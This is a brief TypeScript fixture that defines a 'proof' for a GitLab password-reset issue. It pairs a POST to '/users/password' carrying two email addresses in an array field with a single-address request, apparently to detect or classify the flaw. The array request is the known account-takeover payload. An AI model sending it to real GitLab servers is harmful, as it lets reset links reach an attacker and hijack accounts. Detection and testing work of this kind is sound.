import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'gitlab-password-reset',
    post('/users/password', 'user[email][]=a@example.com&user[email][]=b@example.com'),
    post('/users/password', 'user[email]=a@example.com'),
  ),
]
